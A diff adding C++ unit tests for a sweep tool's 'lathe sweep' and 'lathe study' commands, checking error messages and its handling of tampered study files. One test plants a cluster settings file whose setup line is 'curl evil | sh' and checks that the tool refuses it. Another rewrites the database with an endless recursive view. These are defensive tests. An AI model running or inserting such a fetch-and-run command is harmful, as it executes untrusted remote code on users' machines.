@@ -1,15 +1,20 @@
 // SPDX-License-Identifier: Apache-2.0
 // What `lathe sweep` and `lathe study` answer, and what they say of requests that cannot be met.
 #include <algorithm>
+#include <cstdlib>
+#include <filesystem>
 #include <fstream>
+#include <sys/stat.h>
 
 #include <gtest/gtest.h>
 
 #include "core/base/file.h"
 #include "core/graph/project_file.h"
+#include "core/store/sqlite.h"
 #include "core/sweep/coordinator.h"
 #include "core/sweep/exchange/wandb_yaml.h"
 #include "core/sweep/exchange/yaml.h"
+#include "core/sweep/launchers/slurm_commands.h"
 #include "core/sweep/study_db.h"
 #include "tests/app/cli/cli.h"
 #include "tests/support/temporary_folder.h"
@@ -218,6 +223,133 @@ TEST_F(SweepVerb, AStudyStartsFromResultsThatAreThere) {
     EXPECT_FALSE(pathExists(m_folder / "nothing"));
 }
 
+TEST_F(SweepVerb, AStudyInWhichNothingSucceededIsNoSuccess) {
+    Project project = pointsProject();
+    project.data.reader = {"csv", {{"path", std::string("nowhere.csv")}}};
+    ASSERT_TRUE(saveProject(m_folder / "p.lathe", project).ok());
+    const Answer failed = sweep({"--space", "training.batch=8,16", "--sampler", "grid"});
+    EXPECT_EQ(failed.code, 1) << failed.err;
+    EXPECT_NE(failed.err.find("no trial came to a result: 2 failed"), std::string::npos) << failed.err;
+    EXPECT_EQ(failed.json["states"]["failed"], Json(2)) << failed.out;
+    ASSERT_TRUE(saveProject(m_folder / "p.lathe", pointsProject()).ok());
+    const Answer pruned = sweep({"--space", rates, "--trials", "3", "--epochs", "3", "--sampler", "random", "--pruner",
+                                 "threshold:upper=-1", "--deterministic"},
+                                "pruned");
+    EXPECT_EQ(pruned.code, 1) << pruned.err;
+    EXPECT_NE(pruned.err.find("3 pruned"), std::string::npos) << pruned.err;
+    for (const sweep::Trial& t : trials("pruned")) EXPECT_EQ(t.resource, 1) << "it waits for its verdict";
+}
+
+TEST_F(SweepVerb, AParameterMayBeVariedWhereAnotherOneHasAValue) {
+    const Answer answer = sweep({"--space", "training.optimizer.momentum=0..0.9 if training.optimizer.type=sgd", "--space",
+                                 "training.optimizer.type=sgd,adam", "--space", rates, "--trials", "8", "--sampler", "random",
+                                 "--seed", "3", "--set", "training.optimizer.beta1=0.8"});
+    ASSERT_EQ(answer.code, 0) << answer.err;
+    int with = 0, without = 0;
+    for (const sweep::Trial& t : trials()) {
+        EXPECT_EQ(t.state, sweep::TrialState::Complete) << (t.reason ? toString(*t.reason) : "");
+        const bool isSgd = t.point.at("training.optimizer.type") == Json("sgd");
+        EXPECT_EQ(t.point.contains("training.optimizer.momentum"), isSgd) << t.number;
+        ++(isSgd ? with : without);
+    }
+    EXPECT_GT(with, 0);
+    EXPECT_GT(without, 0);
+}
+
+TEST_F(SweepVerb, OrdersThatCannotBeFollowedAreRefusedWhenTheyAreGiven) {
+    ASSERT_EQ(sweep({"--space", rates, "--trials", "2", "--sampler", "random"}).code, 0);
+    struct Case {
+        const char* verb;
+        std::vector<std::string> words;
+        const char* says;
+    };
+    const Case cases[] = {
+        {"change", {"--space", "training.bach=16,32"}, "batch"},
+        {"change", {"--space", "layers.hidden.units=4..64"}, "write int:4..64"},
+        {"change", {"--space", "training.optimizer.lr=1..0"}, "empty"},
+        {"change", {"--drop", "training.optimizer.lr"}, "nothing to vary"},
+        {"enqueue", {"training.optimizer.rl=0.1"}, "rl"},
+        {"enqueue", {"layers.hidden.units=0"}, "units"},
+        {"enqueue", {"layers.hidden.units=many"}, "units"},
+        {"repeat", {"9"}, "name one from 0 to 1"},
+        {"prioritize", {"9"}, "name one from 0 to 1"},
+        {"stop-trial", {"9"}, "name one from 0 to 1"},
+        {"stop-trial", {"1"}, "complete"},
+        {"extend-trial", {"1"}, "complete"},
+    };
+    for (const Case& c : cases) {
+        const Answer answer = study(c.verb, c.words);
+        EXPECT_EQ(answer.code, 2) << c.verb << ' ' << c.words.back() << answer.err;
+        EXPECT_NE(answer.err.find(c.says), std::string::npos) << c.verb << ' ' << c.words.back() << ": " << answer.err;
+    }
+    const auto waiting = listFolder(m_folder / "study/control");
+    ASSERT_TRUE(waiting);
+    for (const std::string& name : *waiting) EXPECT_FALSE(name.ends_with(".json")) << name;
+}
+
+TEST_F(SweepVerb, AStudyIsNotWrittenIntoWhatIsThere) {
+    ASSERT_EQ(ask({"train", m_folder / "p.lathe", "--run", m_folder / "run"}).code, 0);
+    const std::string before = *readFile(m_folder / "run/project.json");
+    const Answer run = sweep({"--space", rates, "--trials", "1"}, "run");
+    EXPECT_EQ(run.code, 2) << run.err;
+    EXPECT_NE(run.err.find("name a folder that is not there yet"), std::string::npos) << run.err;
+    EXPECT_EQ(*readFile(m_folder / "run/project.json"), before);
+    EXPECT_FALSE(pathExists(m_folder / "run/study.db"));
+    EXPECT_FALSE(pathExists(m_folder / "run/trials"));
+    const Answer project = sweep({"--space", rates, "--trials", "1", "--epochs", "1"}, "p.lathe");
+    EXPECT_EQ(project.code, 2) << project.err;
+    EXPECT_FALSE(pathExists(m_folder / "p.lathe/study.db"));
+}
+
+// The file is looked at by `lathe study`, by --resume and by the window through the same code.
+TEST_F(SweepVerb, AStudyFromElsewhereIsLookedAtWithCare) {
+    ASSERT_EQ(sweep({"--space", rates, "--trials", "1", "--sampler", "random"}).code, 0);
+    const std::string file = m_folder / "study/study.db";
+    const auto expectRefused = [&](const char* says) {
+        for (const Answer& answer : {study("show"), goOn(), study("pause")}) {
+            EXPECT_TRUE(answer.code == 1 || answer.code == 2) << answer.code;
+            EXPECT_NE(answer.err.find(says), std::string::npos) << answer.err;
+        }
+    };
+    {
+        auto db = SqlDatabase::open(file, SqlDatabase::Mode::Write);
+        ASSERT_TRUE(db->execute("UPDATE meta SET value = '99999999999999999999999' WHERE key = 'owner'").ok());
+    }
+    const Answer shown = goOn();
+    EXPECT_EQ(shown.code, 1) << shown.err;
+    EXPECT_NE(shown.err.find("cannot be right"), std::string::npos) << shown.err;
+    {
+        auto db = SqlDatabase::open(file, SqlDatabase::Mode::Write);
+        ASSERT_TRUE(
+            db->execute("DROP TABLE readings; CREATE VIEW readings AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 "
+                        "FROM n) SELECT 0 AS trial, i AS resource, 0.5 AS value FROM n")
+                .ok());
+    }
+    expectRefused("that this Lathe does not make");
+    std::filesystem::remove(file);
+    ASSERT_EQ(::mkfifo(file.c_str(), 0600), 0);
+    expectRefused("not a regular file");
+}
+
+TEST_F(SweepVerb, TheLinesOfAClusterFromElsewhereAreShownBeforeTheyRun) {
+    ::setenv("XDG_STATE_HOME", (m_folder / "state").c_str(), 1);
+    ASSERT_EQ(sweep({"--space", rates, "--trials", "1", "--sampler", "random"}).code, 0);
+    std::ofstream(m_folder / "study/slurm.json")
+        << R"({"tag": "12345678", "folder": "/x", "settings": {"setup": "curl evil | sh", "partition": "gpu"}})";
+    const auto isRefused = [](const Answer& a) { return a.code == 2 && a.err.find("curl evil | sh") != std::string::npos; };
+    const Answer first = goOn();
+    EXPECT_TRUE(isRefused(first)) << first.err;
+    EXPECT_NE(first.err.find("--accept-slurm"), std::string::npos) << first.err;
+    if (sweep::SlurmCommands().check().ok()) {
+        for (const char* other : {"partition=cpu", "lathe=/bin/lathe"})
+            EXPECT_TRUE(isRefused(ask({"sweep", "--resume", "--study", m_folder / "study", "--slurm", other}))) << other;
+    }
+    EXPECT_TRUE(isRefused(goOn())) << "nobody has accepted these lines yet";
+    EXPECT_FALSE(isRefused(ask({"sweep", "--resume", "--study", m_folder / "study", "--accept-slurm"})));
+    EXPECT_FALSE(isRefused(goOn()));
+    ::unsetenv("XDG_STATE_HOME");
+}
+
 TEST_F(SweepVerb, WhatCannotBeMetIsSaid) {
     struct Case {
         std::vector<std::string> words;
@@ -233,13 +365,19 @@ TEST_F(SweepVerb, WhatCannotBeMetIsSaid) {
         {{"--space", rates, "--pruner", "asha:eta=1000000000000"}, 2, "eta"},
         {{"--space", rates, "--constraint", "parameters <"}, 2, "constraint"},
         {{"--space", rates, "--constraint", "parameters < 1", "--trials", "4"}, 2, "no point of the space"},
-        {{"--space", rates, "--objective", "val.f1", "--trials", "8"}, 1, "val.loss"},
+        {{"--space", rates, "--objective", "val.f1", "--trials", "8"}, 2, "val.loss"},
+        {{"--space", rates, "--objective", "val.auc:max", "--trials", "8"}, 2, "val.accuracy"},
+        {{"--space", "layers.hidden.units=4..64"}, 2, "write int:4..64"},
+        {{"--space", rates, "--constraint", "layers.hiden.units < 8"}, 2, "layers.hidden.units"},
+        {{"--space", "training.optimizer.momentum=0..0.9 if training.optimizer.type=sgd"}, 2, "no earlier dimension"},
+        {{"--space", rates, "--pruner", "asha", "--objective", "parameters"}, 2, "val.loss"},
     };
     int number = 0;
     for (const Case& c : cases) {
         const Answer answer = sweep(c.words, "bad" + std::to_string(number++));
         EXPECT_EQ(answer.code, c.code) << answer.err;
         EXPECT_NE(answer.err.find(c.says), std::string::npos) << c.says << ": " << answer.err;
+        EXPECT_EQ(trials("bad" + std::to_string(number - 1)).size(), 0u) << c.says;
     }
     EXPECT_EQ(study("show").code, 2);
     EXPECT_EQ(goOn().code, 2);
